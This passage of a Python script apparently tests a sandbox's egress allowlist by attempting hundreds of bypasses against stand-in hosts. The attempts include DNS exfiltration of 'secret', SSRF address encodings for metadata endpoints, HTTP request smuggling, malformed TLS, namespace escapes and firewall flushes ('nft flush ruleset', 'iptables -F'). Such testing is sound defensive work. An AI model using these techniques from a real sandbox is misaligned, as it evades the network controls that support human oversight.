"""Ways around a list of allowed names, tried from inside a sandbox.  Run there, with the names of groups as arguments;
prints a line of JSON for each try: [group, name, outcome, seconds].

The outcome of a try is "reached" if a server outside answered, else how it was refused.  Uses only the standard library
of python3; the addresses are those of the tests' own internet."""

import contextlib
import errno
import glob
import json
import os
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

OK, EVIL, EVIL6 = "93.184.216.10", "93.184.216.66", "2606:2800:220:1::66"
PROXY, RESOLVER = ("198.18.0.1", 3128), "198.18.0.1"
PATIENCE = 4
groups = {}  # {group: [(name, function)]}


def add(group, name, function):
    groups.setdefault(group, []).append((name, function))


# ---- outcomes ----


def first_word(data):
    if data.startswith(b"HTTP/1."):
        status = data[9:12].decode()
        return "reached" if status in ("200", "101") else status
    if data[:1] == b"\x16":
        return "reached"
    if data[:1] == b"\x15":
        return "alert"
    return "reached" if data else "closed"


def dial(address, port, data=b"", timeout=PATIENCE):
    """Sends the data, and returns the first word of the answer."""
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as s:
        s.settimeout(timeout)
        s.connect((address, port))
        s.sendall(data)
        return first_word(s.recv(4096))


def pieces(address, port, parts, pause=0.002):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as s:
        s.settimeout(PATIENCE)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.connect((address, port))
        for part in parts:
            s.sendall(part)
            time.sleep(pause)
        return first_word(s.recv(4096))


def get(host, path="/evasion", more=""):
    host = host if isinstance(host, bytes) else host.encode("latin-1")
    return b"GET " + path.encode() + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + more.encode() + b"\r\n"


# ---- TLS, by hand where OpenSSL would not ----


def hello(name):
    """A ClientHello with these bytes as its server name; None: without."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    placeholder = None if name is None else "".join("." if i % 50 == 49 and i < len(name) - 1 else "q" for i in range(len(name)))
    tls = context.wrap_bio(incoming, outgoing, server_hostname=placeholder)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    data = outgoing.read()
    if name is None:
        return data
    before = b"\0" + struct.pack(">H", len(name))
    return data.replace(before + placeholder.encode(), before + name, 1)


def server_name(name):
    return struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name


def extended(data, *extensions):
    """A ClientHello with more extensions."""
    body, more = data[9:], b"".join(extensions)
    at = 34 + 1 + body[34]
    at += 2 + struct.unpack(">H", body[at : at + 2])[0]
    at += 1 + body[at]
    length = struct.unpack(">H", body[at : at + 2])[0]
    body = body[:at] + struct.pack(">H", length + len(more)) + body[at + 2 :] + more
    return b"\x16\x03\x01" + struct.pack(">H", len(body) + 4) + b"\x01" + len(body).to_bytes(3, "big") + body


def records(data, sizes):
    """The same message in records of these sizes, the last one again and again."""
    body, out, i = data[5:], b"", 0
    while body:
        n = sizes[min(i, len(sizes) - 1)]
        out += b"\x16\x03\x01" + struct.pack(">H", min(n, len(body))) + body[:n]
        body, i = body[n:], i + 1
    return out


# ---- DNS ----


def question(labels, kind=1, klass=1, flags=0x0100, counts=(1, 0, 0, 0), rest=b""):
    labels = [part.encode() for part in labels.split(".")] if isinstance(labels, str) else labels
    name = b"".join(bytes([len(part)]) + part for part in labels if part) + b"\0"
    return struct.pack(">HH4H", 77, flags, *counts) + name + struct.pack(">HH", kind, klass) + rest


def dns_word(answer):
    code, answers = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    if answers:
        return "reached"
    return {0: "no data", 1: "format error", 2: "server failure", 3: "no such name", 4: "not implemented", 5: "refused"}[code]


def ask(packet, server=RESOLVER, port=53):
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.connect((server, port))
        s.send(packet)
        return dns_word(s.recv(4096))


def ask_by_tcp(packet, server=RESOLVER):
    with socket.create_connection((server, 53), PATIENCE) as s:
        s.sendall(struct.pack(">H", len(packet)) + packet)
        data = s.recv(4096)
        return dns_word(data[2:]) if data else "closed"


# ---- names: ok.example and *.ok.example are allowed ----

NAMES = [
    b"evil.example", b"EVIL.Example", b"evil.example.", b"evil.example..", b"evil\0.ok.example", b"evil.example\0.ok.example",
    b"ok.example\0.evil.example", b"ok.example\0", b"\0ok.example", b"ok.example.evil.example", b"evilok.example", b"ok.example.com",
    b"evil.example#.ok.example", b"evil.example/.ok.example", b"evil.example?.ok.example", b"ok.example@evil.example",
    b"evil.example%00.ok.example", b"evil.example%2f.ok.example", b"evil.example\\.ok.example", b"evil.example;.ok.example",
    b"evil.example,ok.example", b"evil.example ok.example", b"evil.example\t.ok.example", b"evil.example\r\nHost: ok.example",
    b"evil.example\n.ok.example", b"ok.example:80@evil.example", b"*.ok.example", b".ok.example", b"ok..example", b"..ok.example",
    b"-.ok.example", "оk.example".encode(), b"xn--k-9tb.example", "ok.examplе".encode(), "ok。example".encode(), "evil。ok.example".encode(),
    "ｏｋ.example".encode(), "ok.exam\u00adple".encode(), b"xn--.ok.example", "ſ.ok.example".encode(), b"x" * 64 + b".ok.example",
    b".".join([b"x" * 60] * 4) + b".ok.example", b"localhost", b"localhost.", b"ip6-localhost", b"metadata.google.internal", b"dns.evil.example",
]  # fmt: skip


def add_name(name):
    shown = name.decode("utf-8").encode("unicode_escape").decode()[:60]
    labels = name.rstrip(b".").split(b".")
    if b"" not in labels and max(map(len, labels)) < 64 and len(name) < 254:  # that can be looked up
        add("names", f"lookup of {shown}", lambda: ask(question(labels)))
    if b"\0" in name or b"@" in name:
        add("names", f"lookup of {shown}, as one label", lambda: ask(question([name, b"ok", b"example"] if b"\0" in name else [name])))
    add("names", f"Host {shown}", lambda: dial(EVIL, 80, get(name)))
    add("names", f"proxy for {shown}", lambda: dial(*PROXY, b"GET http://" + name + b"/ HTTP/1.1\r\nHost: " + name + b"\r\n\r\n"))
    add("names", f"proxy for {shown}, allowed Host", lambda: dial(*PROXY, b"GET http://" + name + b"/ HTTP/1.1\r\nHost: ok.example\r\n\r\n"))
    add("tunnels", f"CONNECT {shown}", lambda: dial(*PROXY, b"CONNECT " + name + b":443 HTTP/1.1\r\n\r\n"))
    if b"q" not in name:
        add("server names", f"server name {shown}", lambda: dial(EVIL, 443, hello(name)))


for each in NAMES:
    add_name(each)

# ---- addresses: none is allowed ----

FORMS = {
    "evil": ["93.184.216.66", "1572395074", "0x5db8d842", "0135.0270.0330.0102", "93.184.55362", "93.12113986", "0x5d.0xb8.0xd8.0x42",
             "::ffff:93.184.216.66", "::ffff:5db8:d842", "64:ff9b::93.184.216.66", "2002:5db8:d842::1", "2606:2800:220:1::66"],
    "metadata": ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "::ffff:169.254.169.254",
                 "::169.254.169.254", "64:ff9b::169.254.169.254", "64:ff9b:1::169.254.169.254", "2002:a9fe:a9fe::1", "fd00:ec2::254",
                 "2001:0:a9fe:a9fe::5601:5601", "fe80::5efe:a9fe:a9fe", "168.63.129.16", "100.100.100.200"],
    "private": ["10.1.2.3", "192.168.7.7", "172.16.0.1", "100.64.0.1", "167838211", "::ffff:10.1.2.3", "64:ff9b::10.1.2.3", "2002:a01:203::",
                "fd00:1::7", "fe80::1", "fec0::1"],
    "here": ["127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.1", "0.0.0.0", "0", "::1", "::", "::ffff:127.0.0.1", "::127.0.0.1",
             "64:ff9b::127.0.0.1", "2002:7f00:1::", "::ffff:0:127.0.0.1", "192.0.0.8", "198.18.0.1", "198.18.77.77", "fdce:11a0:e65e:1::ffff",
             "224.0.0.1", "255.255.255.255", "240.0.0.1", "fe80::1%lo", "fe80::1%25lo"],
}  # fmt: skip


def resolved(form):
    """Returns the address that a C library parses from the text."""
    if ":" in form:
        return form
    return socket.getaddrinfo(form, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]


def add_address(group, form):
    literal = f"[{form}]" if ":" in form else form
    if group != "here":
        add(f"addresses, {group}", f"connect {form}, port 80", lambda: dial(resolved(form), 80, get(literal)))
        add(f"addresses, {group}", f"connect {form}, TLS", lambda: dial(resolved(form), 443, hello(None)))
        add(f"addresses, {group}", f"connect {form}, port 22", lambda: dial(resolved(form), 22))
    add(f"addresses, {group}", f"proxy for {form}", lambda: dial(*PROXY, f"GET http://{literal}/ HTTP/1.1\r\nHost: {literal}\r\n\r\n".encode()))
    add(f"addresses, {group}", f"CONNECT {form}", lambda: dial(*PROXY, f"CONNECT {literal}:443 HTTP/1.1\r\nHost: {literal}:443\r\n\r\n".encode()))
    if ":" not in form:
        add(f"addresses, {group}", f"server name {form}", lambda: dial(EVIL, 443, hello(form.encode())))


for group_, forms_ in FORMS.items():
    for each in forms_:
        add_address(group_, each)

# ---- TLS ----

for shown_, make_ in {
    "no server name": lambda: hello(None),
    "an empty server name": lambda: extended(hello(None), server_name(b"")),
    "two server names": lambda: extended(hello(b"ok.example"), server_name(b"evil.example")),
    "two server names, the other way": lambda: extended(hello(b"evil.example"), server_name(b"ok.example")),
    "two names in one list": lambda: extended(hello(None), struct.pack(">HHH", 0, 30, 28) + b"\0" + struct.pack(">H", 10) + b"ok.example\0"
                                              + struct.pack(">H", 12) + b"evil.example"),
    "a name of an unknown type": lambda: extended(hello(None), struct.pack(">HHHBH", 0, 17, 15, 1, 12) + b"evil.example"),
    "evil in records of 1 byte": lambda: records(hello(b"evil.example"), [1]),
    "evil in two records": lambda: records(hello(b"evil.example"), [100, 16000]),
    "an empty record first": lambda: b"\x16\x03\x01\0\0" + hello(b"evil.example"),
    "an empty record between": lambda: records(hello(b"evil.example"), [50])[:55] + b"\x16\x03\x01\0\0" + records(hello(b"evil.example"), [50])[55:],
    "an alert first": lambda: b"\x15\x03\x01\0\x02\x01\0" + hello(b"evil.example"),
    "as SSL 2": lambda: b"\x80\x2e\x01\x03\x01" + b"\0" * 60,
    "ECH with evil outside": lambda: extended(hello(b"evil.example"), struct.pack(">HH", 0xFE0D, 10) + b"\0" * 10),
    "HTTP to the TLS port": lambda: get("evil.example"),
    "an HTTP/2 preface": lambda: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0",
    "a ClientHello that says to be longer": lambda: hello(b"evil.example")[:6] + b"\xff\xff\xff" + hello(b"evil.example")[9:],
}.items():  # fmt: skip
    add("tls", shown_, lambda make=make_: dial(EVIL, 443, make()))
    add("tls", shown_ + ", IPv6", lambda make=make_: dial(EVIL6, 443, make()))
add("tls", "evil, a byte at a time", lambda: pieces(EVIL, 443, [bytes([b]) for b in hello(b"evil.example")], 0))
add("tls", "to port 80", lambda: dial(EVIL, 80, hello(b"evil.example")))
add("tls", "DoT", lambda: dial("9.9.9.9", 853, hello(b"dns.evil.example")))
add("tls", "DoT with an allowed name", lambda: dial(EVIL, 853, hello(b"ok.example")))
add("tls", "DoH to an unlisted host", lambda: dial("9.9.9.9", 443, hello(b"dns.evil.example")))
add("tls", "another port", lambda: dial(EVIL, 8443, hello(b"ok.example")))
add("tls", "TLS to the proxy", lambda: dial(*PROXY, hello(b"evil.example")))


# ---- HTTP: each request is for evil.example, or is ambiguous ----

E, K = "evil.example", "ok.example"
REQUESTS = {
    "Host": get(E), "no Host": b"GET / HTTP/1.1\r\n\r\n", "HTTP/1.0 without Host": b"GET / HTTP/1.0\r\n\r\n", "HTTP/0.9": b"GET /\r\n",
    "two Hosts": get(K, more=f"Host: {E}\r\n"), "two Hosts, the other way": get(E, more=f"Host: {K}\r\n"), "two equal Hosts": get(K, more=f"Host: {K}\r\n"),
    "an empty Host": get(""), "Host in a folded line": f"GET / HTTP/1.1\r\nHost: {K}\r\n {E}\r\n\r\n".encode(),
    "Host behind a folded line": f"GET / HTTP/1.1\r\nX: y\r\n Host: {E}\r\nHost: {K}\r\n\r\n".encode(),
    "Host after a space": f"GET / HTTP/1.1\r\nHost : {E}\r\nHost: {K}\r\n\r\n".encode(), "Host in bare lines": f"GET / HTTP/1.1\nHost: {E}\n\n".encode(),
    "a bare CR": f"GET / HTTP/1.1\r\nX: y\rHost: {E}\r\nHost: {K}\r\n\r\n".encode(), "a NUL in a header": f"GET / HTTP/1.1\r\nX: \0\r\nHost: {K}\r\n\r\n".encode(),
    "a NUL in Host": f"GET / HTTP/1.1\r\nHost: {K}\0{E}\r\n\r\n".encode(), "an absolute target": f"GET http://{E}/ HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(),
    "an absolute target, the other way": f"GET http://{K}/ HTTP/1.1\r\nHost: {E}\r\n\r\n".encode(),
    "a target with a user": f"GET http://{K}@{E}/ HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(), "a target of another scheme": f"GET ftp://{E}/ HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(),
    "//evil as a path, evil as Host": f"GET //{E}/ HTTP/1.1\r\nHost: {E}\r\n\r\n".encode(), "Host with another port": get(K + ":7000"),
    "Host with a user": get(f"{K}@{E}"), "Host with port 0": get(K + ":0"), "Host with a long port": get(K + ":000080"),
    "CONNECT": f"CONNECT {E}:443 HTTP/1.1\r\nHost: {E}:443\r\n\r\n".encode(), "CONNECT with an allowed Host": f"CONNECT {E}:443 HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(),
    "CONNECT to an allowed one": f"CONNECT {K}:443 HTTP/1.1\r\nHost: {K}:443\r\n\r\n".encode(),
    "CL.TE": f"POST / HTTP/1.1\r\nHost: {K}\r\nContent-Length: 50\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode() + get(E),
    "TE.CL": f"POST / HTTP/1.1\r\nHost: {K}\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n40\r\n".encode() + get(E),
    "CL.CL": f"POST / HTTP/1.1\r\nHost: {K}\r\nContent-Length: 0\r\nContent-Length: 60\r\n\r\n".encode() + get(E),
    "CL list": f"POST / HTTP/1.1\r\nHost: {K}\r\nContent-Length: 0, 60\r\n\r\n".encode() + get(E),
    "CL with a sign": f"POST / HTTP/1.1\r\nHost: {K}\r\nContent-Length: +60\r\n\r\n".encode() + get(E),
    "CL in hex": f"POST / HTTP/1.1\r\nHost: {K}\r\nContent-Length: 0x10\r\n\r\n".encode() + get(E),
    "CL_": f"POST / HTTP/1.1\r\nHost: {K}\r\nContent_Length: 60\r\n\r\n".encode() + get(E),
    "TE.TE": f"POST / HTTP/1.1\r\nHost: {K}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n".encode() + get(E),
    "TE odd": f"POST / HTTP/1.1\r\nHost: {K}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n".encode() + get(E),
    "TE tab": f"POST / HTTP/1.1\r\nHost: {K}\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n".encode() + get(E),
    "TE space": f"POST / HTTP/1.1\r\nHost: {K}\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n".encode() + get(E),
    "TE in 1.0": f"POST / HTTP/1.0\r\nHost: {K}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode() + get(E),
    "a lower-case method": f"get / HTTP/1.1\r\nHost: {E}\r\n\r\n".encode(), "a version of 1.2": f"GET / HTTP/1.2\r\nHost: {K}\r\n\r\n".encode(),
    "a version of 2.0": f"GET / HTTP/2.0\r\nHost: {K}\r\n\r\n".encode(), "HTTP/2 by prior knowledge": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "two spaces": f"GET  / HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(), "an empty line first": b"\r\n" + get(E), "PROXY, version 1": b"PROXY TCP4 1.2.3.4 5.6.7.8 1 80\r\n" + get(K),
    "PROXY, version 2": b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c" + b"\0" * 12 + get(K), "a websocket": get(E, more="Upgrade: websocket\r\nConnection: Upgrade\r\n"),
    "h2c": get(E, more="Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAAA\r\n"), "SSH": b"SSH-2.0-x\r\n", "SMTP": b"EHLO x\r\n", "Redis": b"*1\r\n$4\r\nPING\r\n",
    "a head without an end": f"GET / HTTP/1.1\r\nHost: {K}\r\nX: ".encode() + b"x" * 70000,
}  # fmt: skip
for shown_, data_ in REQUESTS.items():
    add("http", shown_, lambda data=data_: dial(EVIL, 80, data))
    add("http over IPv6", shown_, lambda data=data_: dial(EVIL6, 80, data))
add("http", "Host, by fast open", lambda: fast_open(get(E)))


def fast_open(data):
    with socket.socket() as s:
        s.sendto(data, socket.MSG_FASTOPEN, (EVIL, 80))
        s.settimeout(PATIENCE)
        return first_word(s.recv(4096))


TO_PROXY = {
    "a path": get(E), "a path, allowed": get(K), "a target with a user": f"GET http://{K}@{E}/ HTTP/1.1\r\nHost: {E}\r\n\r\n".encode(),
    "a target with user and password": f"GET http://{K}:80@{E}/ HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(), "a target with #": f"GET http://{E}#@{K}/ HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(),
    "a target with \\": f"GET http://{E}\\@{K}/ HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(), "https": f"GET https://{E}/ HTTP/1.1\r\nHost: {E}\r\n\r\n".encode(),
    "Host that differs": f"GET http://{K}/ HTTP/1.1\r\nHost: {E}\r\n\r\n".encode(), "target that differs": f"GET http://{E}/ HTTP/1.1\r\nHost: {K}\r\n\r\n".encode(),
    "HTTP/1.0 without Host": f"GET http://{E}/ HTTP/1.0\r\n\r\n".encode(), "with a password": f"GET http://{E}/ HTTP/1.1\r\nHost: {E}\r\nProxy-Authorization: Basic eDp5\r\n\r\n".encode(),
    "CONNECT without a port": f"CONNECT {E} HTTP/1.1\r\n\r\n".encode(), "CONNECT with a user": f"CONNECT {K}@{E}:443 HTTP/1.1\r\n\r\n".encode(),
    "CONNECT, allowed Host": f"CONNECT {E}:443 HTTP/1.1\r\nHost: {K}:443\r\n\r\n".encode(), "CONNECT to a port of an allowed one": f"CONNECT {K}:7000 HTTP/1.1\r\n\r\n".encode(),
    "CONNECT to its name server": f"CONNECT {K}:53 HTTP/1.1\r\n\r\n".encode(), "CONNECT to the proxy itself": b"CONNECT 198.18.0.1:3128 HTTP/1.1\r\n\r\n",
    "SOCKS 5": b"\x05\x01\x00", "SOCKS 4": b"\x04\x01\0\x50" + socket.inet_aton(EVIL) + b"\0", "SOCKS 4a": b"\x04\x01\0\x50\0\0\0\x01\0evil.example\0", "nothing like HTTP": b"\0\1\2\3",
}  # fmt: skip
for shown_, data_ in TO_PROXY.items():
    add("proxy", shown_, lambda data=data_: dial(*PROXY, data))


# ---- DNS: nothing may leave ----

for kind_, number_ in {"A": 1, "AAAA": 28, "TXT": 16, "NULL": 10, "ANY": 255, "MX": 15, "SRV": 33, "HTTPS": 65, "AXFR": 252, "CNAME": 5, "NS": 2, "PTR": 12, "OPT": 41}.items():
    for name_ in ("c2VjcmV0.evil.example", "c2VjcmV0") + (("c2VjcmV0.ok.example", "ok.example") if number_ not in (1, 28) else ()):
        add("dns", f"{kind_} of {name_}", lambda n=name_, k=number_: ask(question(n, k)))
        add("dns", f"{kind_} of {name_} by TCP", lambda n=name_, k=number_: ask_by_tcp(question(n, k)))
for server_ in ("9.9.9.9", "8.8.8.8", EVIL, EVIL6, "10.1.2.3", "169.254.169.253", "127.0.0.1", "127.0.0.53", "::1", "192.0.0.8"):
    add("dns", f"to {server_}", lambda s=server_: ask(question("c2VjcmV0.evil.example"), s))
    add("dns", f"to {server_} by TCP", lambda s=server_: ask_by_tcp(question("c2VjcmV0.evil.example"), s))
for port_ in (853, 5353, 5355, 443, 784, 8853, 54):
    add("dns", f"to port {port_}", lambda p=port_: ask(question("ok.example"), "9.9.9.9", p))
ODD = {
    "two questions": question("ok.example", counts=(2, 0, 0, 0), rest=question("c2VjcmV0.evil.example")[12:]), "an answer in it": question("ok.example", counts=(1, 1, 0, 0), rest=b"\xc0\x0c" + b"\0" * 10),
    "class CH": question("version.bind", 16, 3), "class ANY": question("c2VjcmV0.ok.example", 1, 255), "an update": question("ok.example", flags=0x2800),
    "a dot in a label": question([b"c2VjcmV0.evil", b"example"]), "a dot in an allowed one": question([b"x.ok", b"example"]), "a NUL in a label": question([b"c2Vj\0cmV0", b"ok", b"example"]),
    "bytes in a label": question([bytes(range(128, 160)), b"ok", b"example"]), "a pointer": struct.pack(">6H", 77, 0x100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1", "nothing": struct.pack(">6H", 77, 0x100, 0, 0, 0, 0),
    "of the root": question([]),
}  # fmt: skip
for shown_, packet_ in ODD.items():
    add("dns", shown_, lambda p=packet_: ask(p))
    add("dns", shown_ + ", by TCP", lambda p=packet_: ask_by_tcp(p))
# These are answered: for one name, of which there is one form.
OPTION = b"\0\0\x29\x04\xd0\0\0\0\0\0\x0c\xfd\xe9\0\x08c2VjcmV0"
for shown_, packet_ in {"capitals": question("oK.ExAmPlE"), "an option": question("ok.example", counts=(1, 0, 0, 1), rest=OPTION), "flags": question("ok.example", flags=0x0130),
                        "bytes behind it": question("ok.example", rest=b"c2VjcmV0"), "AAAA": question("Ok.example", 28)}.items():  # fmt: skip
    add("carried", shown_, lambda p=packet_: ask(p))
    add("carried", shown_ + ", by TCP", lambda p=packet_: ask_by_tcp(p))
# No server answers these.
add("ignored", "an answer", lambda: ask(question("c2VjcmV0.evil.example", flags=0x8180)))
add("ignored", "too short", lambda: ask(b"\0\1\2"))
add("ignored", "too long", lambda: ask(question("c2VjcmV0.evil.example", rest=b"x" * 5000)))


# ---- packets, and the host itself ----


def datagram(address, port, data=b"x"):
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        s.sendto(data, (address, port))
        return first_word(s.recv(100))


def raw_socket(family, kind, protocol, address=None, data=b""):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(0.5)
        s.sendto(data, address) if address else s.send(data)
        return first_word(s.recv(100))


QUIC = b"\xc3\0\0\0\x01\x08" + b"q" * 1200
I4, I6, D, R, S = socket.AF_INET, socket.AF_INET6, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM
for address_ in (EVIL, EVIL6, OK, "10.1.2.3", "169.254.169.254", "8.8.8.8", "255.255.255.255", "224.0.0.251", "ff02::1"):
    for port_, data_ in ((443, QUIC), (123, b"\x1b" + b"\0" * 47), (7000, b"secret"), (69, b"\0\1x\0octet\0"), (500, b"x"), (51820, b"x")):
        add("packets", f"UDP {address_} {port_}", lambda a=address_, p=port_, d=data_: datagram(a, p, d))
ECHO = b"\x08\0\xf7\xff\0\0\0\0"
for shown_, arguments_ in {
    "ping": (I4, D, 1, (EVIL, 0), ECHO), "ping, IPv6": (I6, D, 58, (EVIL6, 0), b"\x80" + ECHO[1:]), "ICMP": (I4, R, 1, (EVIL, 0), ECHO), "a raw packet": (I4, R, 255, (EVIL, 0), ECHO),
    "SCTP": (I4, S, 132, (EVIL, 80)), "SCTP, one to many": (I4, socket.SOCK_SEQPACKET, 132, (EVIL, 80)), "DCCP": (I4, 6, 33, (EVIL, 80)), "UDP-Lite": (I4, D, 136, (EVIL, 80), b"x"),
    "MPTCP": (I4, S, 262, (EVIL, 80)), "a packet socket": (socket.AF_PACKET, R, 0x0300, ("lo", 0x800), b"x" * 60), "a packet socket, cooked": (socket.AF_PACKET, D, 0x0300, ("lo", 0x800), b"x" * 60),
    "netfilter": (socket.AF_NETLINK, R, 12, (0, 0), b"x" * 20), "generic netlink": (socket.AF_NETLINK, R, 16, (0, 0), b"x" * 20), "vsock": (40, S, 0), "Bluetooth": (31, R, 1), "CAN": (29, R, 1),
    "XDP": (44, R, 0), "AF_ALG": (38, socket.SOCK_SEQPACKET, 0), "TIPC": (30, D, 0), "AX.25": (3, D, 0), "X.25": (9, socket.SOCK_SEQPACKET, 0), "IGMP": (I4, R, 2, (EVIL, 0), b"x" * 8),
}.items():  # fmt: skip
    add("packets", shown_, lambda a=arguments_: raw_socket(*a))
for port_ in (1, 53, 80, 443, 3128):
    for address_ in ("127.0.0.1", "::1", "192.0.0.8", "0.0.0.0", "::ffff:127.0.0.1"):
        if (port_, address_) != (53, "127.0.0.1"):
            add("packets", f"the listener, {address_} {port_}", lambda a=address_, p=port_: dial(a, p, get(E)))
for port_ in (22, 25, 110, 3306, 5432, 6379, 7000, 7001, 8080, 65535):
    add("packets", f"raw TCP {port_}", lambda p=port_: dial(EVIL, p, b"x"))
    add("packets", f"raw TCP {port_}, an allowed name's address", lambda p=port_: dial(OK, p, b"x"))


def bound(source, option=None):
    with socket.socket() as s:
        s.settimeout(PATIENCE)
        if option:
            s.setsockopt(*option)
        if source:
            s.bind(source)
        s.connect((EVIL, 80))
        s.sendall(get(E))
        return first_word(s.recv(100))


for shown_, arguments_ in {
    "from 127.0.0.1": (("127.0.0.1", 0),), "from evil's own address": ((EVIL, 0),), "from the proxy's": (("198.18.0.1", 0),), "by another device": (None, (socket.SOL_SOCKET, 25, b"host0\0")),
    "by lo": (None, (socket.SOL_SOCKET, 25, b"lo\0")), "with a mark": (None, (socket.SOL_SOCKET, 36, 1)), "transparent": (None, (0, 19, 1)), "past the routes": (None, (socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)),
    "by a source route": (None, (0, 4, b"\x83\x07\x04" + socket.inet_aton(OK) + b"\0")), "with priority": (None, (socket.SOL_SOCKET, 12, 7)),
}.items():  # fmt: skip
    add("packets", shown_, lambda a=arguments_: bound(*a))


def abstract(name):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(1)
        s.connect("\0" + name)
        return "reached"


def join_namespaces(kind):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    for path in glob.glob(f"/proc/*/ns/{kind}"):
        fd = os.open(path, os.O_RDONLY)
        if libc.setns(fd, 0) == 0 and os.readlink(path) != os.readlink(f"/proc/self/ns/{kind}"):
            return "reached"
        os.close(fd)
    raise OSError(ctypes.get_errno() or errno.EPERM, "setns")


def unshare(flags):
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(flags) < 0:
        raise OSError(ctypes.get_errno(), "unshare")
    return "reached"


def host_network():
    """Any interface or connection that is not this namespace's."""
    text = "".join(open(path).read() for path in glob.glob("/proc/[0-9]*/net/dev") + glob.glob("/proc/[0-9]*/net/route"))
    return "reached" if "host0" in text or "eth" in text else "only lo"


def write(path, text):
    with open(path, "w") as f:
        f.write(text)
    return "reached"


def flush(*words):
    r = subprocess.run(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=PATIENCE)
    return "reached" if r.returncode == 0 else "failed"


add("host", "an abstract socket", lambda: abstract("cella-egress-test"))
add("host", "another network namespace", lambda: join_namespaces("net"))
add("host", "another user namespace", lambda: join_namespaces("user"))
add("host", "a new network namespace", lambda: unshare(0x40000000))
add("host", "a new user and network namespace", lambda: unshare(0x50000000))
add("host", "/proc/*/net", host_network)
for path_ in ("/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/conf/all/route_localnet", "/proc/sys/net/ipv4/ip_unprivileged_port_start", "/proc/sys/net/ipv4/ip_nonlocal_bind"):
    add("host", path_, lambda p=path_: write(p, "1"))
add("host", "/etc/resolv.conf", lambda: write("/etc/resolv.conf", "nameserver 9.9.9.9\n"))
add("host", "/dev/net/tun", lambda: write("/dev/net/tun", ""))
for words_ in (["nft", "flush", "ruleset"], ["/usr/sbin/nft", "flush", "ruleset"], ["/usr/sbin/iptables", "-F"], ["/usr/sbin/ip", "route", "flush", "table", "local"],
               ["/usr/sbin/ip", "link", "add", "x", "type", "dummy"], ["/usr/sbin/ip", "link", "set", "lo", "down"], ["/usr/sbin/ip", "rule", "add", "from", "all", "lookup", "9"]):  # fmt: skip
    add("host", " ".join(words_), lambda w=words_: flush(*w))
add("host", "and then evil", lambda: dial(EVIL, 80, get(E)))
add("host", "and then evil, by UDP", lambda: datagram(EVIL, 7000))


# ---- allowed names with forbidden addresses ----

for name_ in ("private", "lan", "mixed", "loop", "meta", "meta6", "nat64", "sixto4", "mapped", "compatible", "zero", "ula", "linklocal", "cgnat", "multicast"):
    host_ = name_ + ".example"
    add("private names", f"Host {host_}", lambda h=host_: dial(OK, 80, get(h)))
    add("private names", f"server name {host_}", lambda h=host_: dial(OK, 443, hello(h.encode())))
    add("private names", f"proxy for {host_}", lambda h=host_: dial(*PROXY, f"GET http://{h}/ HTTP/1.1\r\nHost: {h}\r\n\r\n".encode()))
    add("private names", f"CONNECT {host_}", lambda h=host_: dial(*PROXY, f"CONNECT {h}:443 HTTP/1.1\r\n\r\n".encode()))


# ---- allowed requests with further data: the first reaches ok.example, the rest nothing ----


def conversation(address, port, *parts, pause=0.02):
    """The status of the first answer; all of the rest is read, too."""
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as s:
        s.settimeout(PATIENCE)
        s.connect((address, port))
        heard = b""
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):
            for part in parts:
                s.sendall(part)
                time.sleep(pause)
        with contextlib.suppress(OSError):
            while data := s.recv(65536):
                heard += data
        return first_word(heard) + (" twice" if heard.count(b"HTTP/1.1 2") > 1 else "")


FIRST = get(K, "/first")
SECOND = {
